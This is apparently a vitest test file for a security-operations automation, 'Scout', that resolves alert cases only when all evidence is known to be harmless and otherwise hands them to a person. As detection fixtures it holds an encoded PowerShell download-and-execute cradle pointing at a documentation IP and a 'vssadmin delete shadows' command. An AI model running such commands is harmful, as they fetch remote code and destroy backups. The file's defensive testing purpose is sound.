import { randomBytes } from 'node:crypto';
import { desc, eq } from 'drizzle-orm';
import { afterAll, afterEach, beforeAll, describe, expect, test } from 'vitest';
import { newId } from '../../db/id.ts';
import {
  caseObservables,
  cases,
  deviceAnswers,
  observables,
  runs,
  scoutWorks,
  storms,
  verdictOverrides,
} from '../../db/schema/index.ts';
import { type Actor, refOf } from '../../domain/actor.ts';
import type { CaseInput } from '../../domain/case.ts';
import { said } from '../../domain/device/testing/records.ts';
import type { ObservableRole } from '../../domain/observables/types.ts';
import { updateAutomation } from '../automations/patch.ts';
import { openCase } from '../cases/open.ts';
import { transitionCase } from '../cases/transition.ts';
import { useEncryptionKey } from '../connectors/box.ts';
import { putConnector } from '../connectors/put.ts';
import { as, automation, ctxOf, member, NOW, testFloor, after as till } from '../testing/fixtures.ts';
import { linkFound } from '../testing/found.ts';
import { rowOf } from '../testing/reads.ts';
import { gatherFacts } from './gather.ts';
import { handOverUnworked } from './hand-over.ts';
import { outlineForScout } from './outline.ts';
import { processOf, scoutCtx, scoutsCase, settled } from './testing/scouts-case.ts';

const floor = testFloor();
const admin = () => ctxOf(floor.db, as(floor.people.admin));
const set = (id: string, patch: object) => updateAutomation({ ctx: admin(), input: { id, patch } });

const CRADLE = `powershell.exe -nop -w hidden -enc ${Buffer.from("IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a')", 'utf16le').toString('base64')}`;
const OURS = 'C:\\shop\\sync.exe --now';
const OTHER = 'C:\\shop\\other.exe --now';

beforeAll(() => useEncryptionKey(randomBytes(32).toString('base64')));
afterEach(async () => {
  await set('crowdstrike-intel', { parameters: { knownGood: [] } });
  await set('scout', { enabled: true, parameters: { acts: ['comment', 'task', 'resolve'], resolveUpTo: 'medium' } });
  for (const id of ['crowdstrike', 'sentinelone']) await connect(id, false);
});

/** With a secret of ours, at an address that nobody calls. */
const connect = (id: string, enabled: boolean, credentials: Record<string, string> = {}) =>
  putConnector({ ctx: admin(), input: { id, enabled, credentials } });
const refusalsOf = async (key: string, meanwhile?: () => Promise<unknown>) => {
  const { outcome, refusals } = await settled(floor, key, meanwhile);
  expect(outcome).toBe('handed_over');
  return refusals;
};

test('a case of which all is known to be harmless is resolved', async () => {
  const key = await scoutsCase(floor);
  expect(await settled(floor, key)).toMatchObject({ outcome: 'resolved', refusals: [] });
  expect(await rowOf(floor.db, key)).toMatchObject({ state: 'resolved', resolutionVerdict: 'benign_positive' });
});

describe('command lines', () => {
  const raw = (cmdline: string) => ({ composite_id: 'a:1', cmdline, filename: 'powershell.exe' });

  test('a cradle that nobody analysed, of a program whose hash is benign, goes to a person', async () => {
    const key = await scoutsCase(floor, { alerts: [{ vendor: 'crowdstrike', raw: raw(CRADLE) }] });
    await settled(floor, key);
    expect(await rowOf(floor.db, key)).toMatchObject({
      state: 'new',
      assigneeId: expect.not.stringMatching(floor.scout.id),
    });
  });

  test.each<[string, Parameters<typeof scoutsCase>[1]]>([
    ['of the alert as it came', { alerts: [{ vendor: 'crowdstrike', raw: raw(OTHER) }] }],
    [
      'of a process above it',
      { alerts: [{ vendor: 'crowdstrike', raw: { ...raw(OURS), parent_details: raw(OTHER) } }] },
    ],
    [
      'of another vendor',
      { alerts: [{ vendor: 'generic', raw: { data: [{ host: { ProcessCommandLine: OTHER } }] } }] },
    ],
    [
      'of SentinelOne',
      { alerts: [{ vendor: 'sentinelone', raw: { threatInfo: { maliciousProcessArguments: OTHER } } }] },
    ],
    ['of the details', { alerts: [{ vendor: 'crowdstrike', raw: {}, details: { processes: [processOf(OTHER)] } }] }],
    ['that is an observable', { fields: { observables: [{ type: 'command_line', value: OTHER, role: 'related' }] } }],
  ])('one %s that nobody knows refuses, until the house knows it', async (_name, given) => {
    await set('crowdstrike-intel', { parameters: { knownGood: [OURS] } });
    expect(await refusalsOf(await scoutsCase(floor, given))).toEqual([
      'A command line of it is not known to be harmless.',
    ]);
    await set('crowdstrike-intel', { parameters: { knownGood: [OURS, OTHER] } });
    expect((await settled(floor, await scoutsCase(floor, given))).outcome).toBe('resolved');
  });

  test.each<[string, unknown]>([
    ['as a pair of a name and a value', { EventData: { Data: [{ Name: 'CommandLine', '#text': OTHER }] } }],
    ['in parts', { process: { args: OTHER.split(' ') } }],
    ['in JSON in a text', { _raw: JSON.stringify({ CommandLine: OTHER }) }],
    ['as the process', { process: OTHER }],
  ])('one written %s is found', async (_name, body) => {
    const key = await scoutsCase(floor, { alerts: [{ vendor: 'generic', raw: body }] });
    expect(await refusalsOf(key)).toEqual(['A command line of it is not known to be harmless.']);
  });

  test('one in the words of an alert refuses, where it is not harmless', async () => {
    const told = (message: string) => scoutsCase(floor, { alerts: [{ vendor: 'generic', raw: { message } }] });
    const bad = await settled(floor, await told('We saw: vssadmin delete shadows /all /quiet'));
    expect(bad.outcome).toBe('handed_over');
    expect((await settled(floor, await told('The agent on this till was quiet for an hour'))).outcome).toBe('resolved');
  });

  test('what the vendor itself calls an attack is not resolved', async () => {
    const key = await scoutsCase(floor, { alerts: [{ vendor: 'generic', raw: { verdict: 'malicious' } }] });
    expect(await refusalsOf(key)).toEqual(['The vendor itself says verdict: malicious.']);
  });

  test('more text than is read of one is not read at all', async () => {
    const message = Array.from({ length: 40_000 }, (_, n) => `word${n}`).join(' ');
    const key = await scoutsCase(floor, { alerts: [{ vendor: 'generic', raw: { message } }] });
    expect(await refusalsOf(key)).toEqual(['The alerts of the case hold more text than is read of one.']);
  });

  test('one behind a hundred alerts of later is found', async () => {
    await set('crowdstrike-intel', { parameters: { knownGood: [OURS] } });
    const many = Array.from({ length: 120 }, () => ({ vendor: 'generic', raw: { cmdline: OURS } }));
    const key = await scoutsCase(floor, { alerts: [{ vendor: 'generic', raw: { cmdline: OTHER } }, ...many] });
    expect(await refusalsOf(key)).toEqual(['A command line of it is not known to be harmless.']);
  });

  test('of an alert whose details are still to be read are not known', async () => {
    await set('crowdstrike-intel', { parameters: { knownGood: [OURS] } });
    const alert = { vendor: 'crowdstrike', raw: raw(OURS) };
    expect((await settled(floor, await scoutsCase(floor, { alerts: [alert] }))).outcome).toBe('resolved');
    await connect('crowdstrike', true, { clientId: 'a', clientSecret: 'b' });
    expect(await refusalsOf(await scoutsCase(floor, { alerts: [alert, alert] }))).toEqual([
      'The details of 2 alerts from CrowdStrike were not read.',
    ]);
    const read = { ...alert, details: { processes: [processOf(OURS)] } };
    expect((await settled(floor, await scoutsCase(floor, { alerts: [read] }))).outcome).toBe('resolved');
  });

  test('of an alert that brings none and whose details nobody reads are not known', async () => {
    const key = await scoutsCase(floor, { alerts: [{ vendor: 'crowdstrike', raw: { composite_id: 'a:1' } }] });
    expect(await refusalsOf(key)).toEqual(['The details of an alert from CrowdStrike were not read.']);
  });

  test('too many to judge are not judged', async () => {
    const alerts = Array.from({ length: 301 }, (_, n) => ({ vendor: 'generic', raw: { cmdline: `${OTHER} ${n}` } }));
    expect(await refusalsOf(await scoutsCase(floor, { alerts }))).toContain(
      'The case has more than 300 command lines.',
    );
  });
});

describe('devices', () => {
  const of = { fields: { observables: [{ type: 'device', value: 'till-1', role: 'victim' }] } } satisfies Parameters<
    typeof scoutsCase
  >[1];
  const answer = async (state: 'unknown' | 'failed' | 'off', answeredAt: Date | null) => {
    const [device] = await floor.db.select().from(observables).where(eq(observables.value, 'till-1'));
    const said = { state, triedAt: till(60), answeredAt };
    await floor.db
      .insert(deviceAnswers)
      .values({ observableId: device!.id, source: 'sentinelone', ...said })
      .onConflictDoUpdate({ target: [deviceAnswers.observableId, deviceAnswers.source], set: said });
  };

  test('that nobody is asked about refuse nothing', async () => {
    expect((await settled(floor, await scoutsCase(floor, of))).outcome).toBe('resolved');
  });

  test.each([
    ['has not answered', 'failed', null, 'SentinelOne has not said anything of till-1.'],
    [
      'has answered before the alert',
      'unknown',
      till(-60),
      'What SentinelOne said of till-1 is older than the case’s last alert.',
    ],
    ['has answered since', 'unknown', till(1), null],
    ['lacks what it is asked with', 'off', null, null],
  ] as const)('of which a source that is on %s', async (_name, state, at, refusal) => {
    await connect('sentinelone', true, { webhookToken: 'x' });
    const key = await scoutsCase(floor, of);
    await answer(state, at);
    if (refusal) expect(await refusalsOf(key)).toEqual([refusal]);
    else expect((await settled(floor, key)).outcome).toBe('resolved');
  });

  test('of one name of which one is infected are not told apart', async () => {
    const key = await scoutsCase(floor, of);
    const [device] = await floor.db.select().from(observables).where(eq(observables.value, 'till-1'));
    const records = ['S1', 'S2'].map(
      (serial, n) => said('sentinelone', { names: ['till-1'], serials: [serial], infected: n === 1 }).record,
    );
    const answer = { state: 'answered', triedAt: till(60), answeredAt: till(60), records } as const;
    await floor.db.delete(deviceAnswers);
    await floor.db
      .insert(deviceAnswers)
      .values({ observableId: device!.id, source: 'sentinelone', ...answer, records });
    expect(await refusalsOf(key)).toEqual(['Several devices are called till-1.']);
    await floor.db.delete(deviceAnswers);
  });

  test('beyond those that are looked up are not known', async () => {
    const many = Array.from({ length: 21 }, (_, n) => ({ type: 'device', value: `pos-${n}`, role: 'victim' }) as const);
    expect(await refusalsOf(await scoutsCase(floor, { fields: { observables: many } }))).toEqual([
      'The case has more devices than are looked up.',
    ]);
  });
});

describe('whether its users are VIPs', () => {
  const UNKNOWN = 'It is not known whether the user is a VIP.';
  const CEO = 'ceo@retail.example';
  const named = (type: 'user' | 'email', value: string, role: ObservableRole = 'victim') => ({ type, value, role });
  /** An event of Okta's, which is asked about its user before a case takes it. */
  const askedAbout = (login: string) => ({
    vendor: 'okta',
    raw: { target: [{ type: 'User', id: newId(), alternateId: login }] },
  });

  beforeAll(() => connect('okta', true));
  afterAll(() => connect('okta', false));

  test('is what people say of it where no directory is connected', async () => {
    await connect('okta', false);
    const key = await scoutsCase(floor, { fields: { observables: [named('user', CEO)] } });
    expect((await settled(floor, key)).outcome).toBe('resolved');
    await connect('okta', true);
    expect(await refusalsOf(await scoutsCase(floor, { fields: { observables: [named('user', CEO)] } }))).toEqual([
      UNKNOWN,
    ]);
  });

  test.each([
    ['a user', named('user', CEO)],
    ['an address', named('email', CEO, 'related')],
    ['an address of a domain of ours', named('email', CEO, 'own')],
  ])('is not known of %s whom no directory has told of', async (_name, one) => {
    const key = await scoutsCase(floor, { fields: { observables: [one] } });
    const facts = await gatherFacts({ ctx: scoutCtx(floor), input: { key } });
    expect(facts.find(({ id }) => id === 'case.vip')!.value).toBe('unknown');
    expect(await outlineForScout({ ctx: scoutCtx(floor), input: { key, tool: 'case' } })).toMatchObject({
      vip: 'unknown',
    });
    expect(await refusalsOf(key)).toEqual([UNKNOWN]);
    expect(await rowOf(floor.db, key), 'its deadlines are those of before').toMatchObject({ vipUnknown: false });
  });

  test('is not known of the member whom it is about', async () => {
    const key = await scoutsCase(floor);
    const subjectMemberId = floor.people.colleague.id;
    await floor.db
      .update(cases)
      .set({ subjectMemberId })
      .where(eq(cases.id, (await rowOf(floor.db, key)).id));
    expect(await refusalsOf(key)).toEqual([UNKNOWN]);
  });

  test('is known where Okta has told of each', async () => {
    const observables = [named('user', CEO), named('email', CEO, 'related')];
    const alerts = [askedAbout(CEO)];
    const key = await scoutsCase(floor, { fields: { observables }, alerts });
    expect((await settled(floor, key)).outcome).toBe('resolved');
    const another = [...observables, named('user', 'm.rossi', 'related')];
    expect(await refusalsOf(await scoutsCase(floor, { fields: { observables: another }, alerts }))).toEqual([UNKNOWN]);
  });

  test('is no question of accounts of machines', async () => {
    const accounts = ['SHOP\\TILL-7$', 'NT AUTHORITY\\SYSTEM', 'LOCAL SERVICE', 'root'];
    const key = await scoutsCase(floor, { fields: { observables: accounts.map((one) => named('user', one)) } });
    expect((await settled(floor, key)).outcome).toBe('resolved');
  });

  test('is asked of who was named while it was investigated', async () => {
    const key = await scoutsCase(floor);
    const name = () => linkFound(floor.db, key, [{ ...named('user', CEO), origins: [] }]);
    expect(await refusalsOf(key, name)).toContain(UNKNOWN);
  });
});

describe('what changes while it is investigated counts', () => {
  test('a policy that was tightened', async () => {
    const key = await scoutsCase(floor);
    const tighten = () => set('scout', { parameters: { resolveUpTo: 'low' } });
    expect(await refusalsOf(key, tighten)).toEqual(['The severity is medium, above low.']);
  });

  test('a right that was taken away', async () => {
    const key = await scoutsCase(floor);
    const take = () => set('scout', { parameters: { acts: ['comment'] } });
    expect(await refusalsOf(key, take)).toEqual(['Resolving is not among what Scout may do by itself.']);
  });

  test('an alert that came', async () => {
    const key = await scoutsCase(floor);
    const come = () =>
      linkFound(floor.db, key, [{ type: 'command_line', value: CRADLE, role: 'related', origins: [] }]);
    const { refusals, outcome } = await settled(floor, key, come);
    expect({ outcome, refusals }).toEqual({ outcome: 'handed_over', refusals: [] });
    const [work] = await floor.db.select().from(scoutWorks).orderBy(desc(scoutWorks.id)).limit(1);
    expect(work).toMatchObject({ verdict: 'malicious', by: 'rules' });
  });

  test('another automation that has begun to look', async () => {
    const key = await scoutsCase(floor);
    const { id } = await rowOf(floor.db, key);
    const run = { id: newId(), automation: 'crowdstrike-intel', eventId: newId(), eventName: 'case/alerts.unread' };
    const begin = () => floor.db.insert(runs).values({ ...run, caseId: id, status: 'queued', createdAt: NOW });
    expect(await refusalsOf(key, begin)).toEqual([
      'Automations that still look at the case: Analyse threat intelligence.',
    ]);
  });
});

describe('a case is not Scout’s to resolve', () => {
  test('that a person opened', async () => {
    const key = await scoutsCase(floor, { by: as(floor.people.analyst) });
    expect(await refusalsOf(key)).toEqual(['A person opened the case.']);
  });

  test('that a person put on hold', async () => {
    const key = await scoutsCase(floor);
    const to = { state: 'on_hold', reason: 'Waits for the store.', wakeAt: till(3_600).toISOString() };
    const hold = () => transitionCase({ ctx: ctxOf(floor.db, as(floor.people.lead)), input: { key, to } });
    expect(await refusalsOf(key, hold)).toEqual(['A person put the case on hold.']);
  });

  test('that collects a storm', async () => {
    const key = await scoutsCase(floor);
    const { id } = await rowOf(floor.db, key);
    const times = { beganAt: NOW, lastEventAt: NOW, quietAt: NOW, endedAt: NOW };
    await floor.db
      .insert(storms)
      .values({ id: newId(), connectorId: 'wiz', rule: 'r', caseId: id, collected: 9, ...times });
    expect(await refusalsOf(key)).toEqual([
      'The case collects the events of a storm, which nobody looks at one by one.',
    ]);
  });

  test('because its like was called harmless by no person', async () => {
    await set('scout', { parameters: { similarNeeded: 1 } });
    const shared = { type: 'ipv4', value: '192.0.2.51', role: 'related' } as const;
    const neighbour = await openCase({
      ctx: admin(),
      input: { fields: { title: 'Another', severity: 'low', observables: [shared] } },
    });
    const to = { state: 'resolved', verdict: 'false_positive', summary: 'So.' } as const;
    const end = (actor: Actor) => transitionCase({ ctx: { ...admin(), actor }, input: { key: neighbour.key, to } });
    const fields = { observables: [shared] };

    await end(automation('case-created'));
    expect(await refusalsOf(await scoutsCase(floor, { fields }))).toEqual([
      'Similar cases that ended as harmless: 0 of the 1 that are needed.',
    ]);
    await transitionCase({ ctx: admin(), input: { key: neighbour.key, to: { state: 'triage', reason: 'Again.' } } });
    await end(admin().actor);
    expect((await settled(floor, await scoutsCase(floor, { fields }))).outcome).toBe('resolved');
    await set('scout', { parameters: { similarNeeded: 0 } });
  });

  test('whose like ended as an attack, behind twenty that share as much', async () => {
    const shared = { type: 'ipv4', value: '192.0.2.50', role: 'related' } as const;
    const neighbour = async (verdict: 'true_positive' | 'false_positive') => {
      const fields: CaseInput = { title: 'Another', severity: 'low', observables: [shared] };
      const { key } = await openCase({ ctx: admin(), input: { fields } });
      await floor.db
        .update(cases)
        .set({ stage: 'closed', state: 'closed', resolutionVerdict: verdict, resolutionSummary: 'So.' })
        .where(eq(cases.id, (await rowOf(floor.db, key)).id));
    };
    await neighbour('true_positive');
    for (let n = 0; n < 20; n += 1) await neighbour('false_positive');
    const key = await scoutsCase(floor, { fields: { observables: [shared] } });
    expect(await refusalsOf(key)).toEqual(['A similar case ended as a true positive.']);
  });
});

test('a task is not proven where nobody was asked about one behind the sixty that are read', async () => {
  const files = Array.from({ length: 61 }, () => {
    const value = newId().replaceAll('-', '').repeat(2);
    return { type: 'sha256', value, role: 'implicated' } as const;
  });
  const provesTasks = async (judged: number) => {
    const key = await scoutsCase(floor, { fields: { observables: files.slice(0, judged + 1) } });
    const { id } = await rowOf(floor.db, key);
    const held = floor.db.select({ id: caseObservables.observableId }).from(caseObservables);
    const all = await held.where(eq(caseObservables.caseId, id)).orderBy(caseObservables.observableId);
    const judgement = { verdict: 'benign', reason: 'Ours.', by: refOf(admin().actor), at: NOW } as const;
    await floor.db.delete(verdictOverrides);
    await floor.db
      .insert(verdictOverrides)
      .values(all.slice(0, judged).map((one) => ({ id: newId(), observableId: one.id, ...judgement })));
    return (await settled(floor, key)).acts.includes('task');
  };
  expect(await provesTasks(60)).toBe(false);
  expect(await provesTasks(2)).toBe(false);
  expect((await settled(floor, await scoutsCase(floor))).acts).toContain('task');
});

describe('handed over', () => {
  test('to nobody whom the case names', async () => {
    const concerned = await member(floor.db, { name: 'Cora', tier: 1 });
    const user = { type: 'user', value: concerned.email, role: 'victim' } as const;
    const key = await scoutsCase(floor, { fields: { observables: [user] } });
    await handOverUnworked({ ctx: scoutCtx(floor), input: { key, why: 'It was cancelled.' } });
    const { assigneeId } = await rowOf(floor.db, key);
    expect([null, floor.scout.id, concerned.id]).not.toContain(assigneeId);
    // Of tier 1 there is nobody else: without that he would have been given it.
    const other = await scoutsCase(floor);
    await handOverUnworked({ ctx: scoutCtx(floor), input: { key: other, why: 'It was cancelled.' } });
    expect((await rowOf(floor.db, other)).assigneeId).toBe(concerned.id);
  });
});
